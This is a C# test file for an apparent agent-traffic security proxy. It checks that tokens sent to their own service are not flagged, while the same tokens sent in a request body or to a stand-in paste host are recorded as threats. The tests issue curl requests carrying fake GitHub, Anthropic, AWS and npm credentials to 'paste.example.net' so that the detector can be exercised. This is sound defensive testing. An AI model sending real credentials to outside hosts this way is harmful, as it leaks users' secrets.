using System.Text.Json;
using ClawSec.Proxy.Tests.Infrastructure;

namespace ClawSec.Proxy.Tests.Detection;

/// <summary>
/// An agent authenticating to a service with that service's own token is the agent working, not exfiltration: not
/// recorded by default. The same token to any other host, or in a body, is recorded.
/// </summary>
public sealed class OwnProviderKeyTests : IAsyncLifetime
{
    private const string Paste = "paste.example.net";

    private TestUpstream _upstream = null!;
    private MonitorProcess _monitor = null!;

    public static TheoryData<string, string> Tokens => new()
    {
        { "github_token", "api.github.com" },
        { "ai_api_key", "api.anthropic.com" },
        { "aws_access_key", "sts.amazonaws.com" },
        { "npm_token", "registry.npmjs.org" },
    };

    // A new credential header of the rule's kind each time, so that no record is a repeat of another.
    private static string Header(string rule) => rule switch
    {
        "github_token" => "Authorization: Bearer " + FakeSecrets.GithubToken(),
        "ai_api_key" => "x-api-key: " + FakeSecrets.AnthropicKey(),
        "aws_access_key" => $"Authorization: AWS4-HMAC-SHA256 Credential={FakeSecrets.AwsAccessKey()}/20261125/us-east-1/sts/aws4_request, SignedHeaders=host, Signature=0a1b",
        _ => "Authorization: Bearer " + FakeSecrets.NpmToken(),
    };

    public async ValueTask InitializeAsync()
    {
        _upstream = await TestUpstream.StartAsync();
        var names = new[] { "api.github.com", "api.anthropic.com", "sts.amazonaws.com", "registry.npmjs.org", Paste };
        _monitor = await MonitorProcess.StartAsync(new { resolve = names.ToDictionary(n => n, _ => "127.0.0.1") });
    }

    public async ValueTask DisposeAsync()
    {
        await _monitor.DisposeAsync();
        await _upstream.DisposeAsync();
    }

    [Theory]
    [MemberData(nameof(Tokens))]
    public async Task A_token_in_a_credential_header_to_its_own_service_is_not_recorded_and_elsewhere_is(string rule, string host)
    {
        var own = await Clients.CurlAsync(_monitor.ProxyUrl, $"http://{host}:{_upstream.Port}/own", "-H", Header(rule));
        var inBody = await Clients.CurlAsync(_monitor.ProxyUrl, $"http://{host}:{_upstream.Port}/body", "--data-binary", Header(rule));
        var elsewhere = await Clients.CurlAsync(_monitor.ProxyUrl, $"http://{Paste}:{_upstream.Port}/elsewhere", "-H", Header(rule));
        Assert.All([own, inBody, elsewhere], r => Assert.Equal(200, Clients.StatusOf(r)));

        // The threat log has one writer fed in order: once the request sent last is recorded, so is any before it.
        await _monitor.Threats.WaitForAsync(r => Is(r, rule, $"{Paste}:{_upstream.Port}"));
        var toOwnHost = _monitor.Threats.ReadAll().Where(r => Is(r, rule, $"{host}:{_upstream.Port}")).ToList();

        // The header's is not recorded, the body's is.
        Assert.Single(toOwnHost);
    }

    private static bool Is(JsonElement record, string rule, string dest) =>
        ThreatLogFile.Get(record, "pattern") == rule && ThreatLogFile.Get(record, "dest") == dest;
}
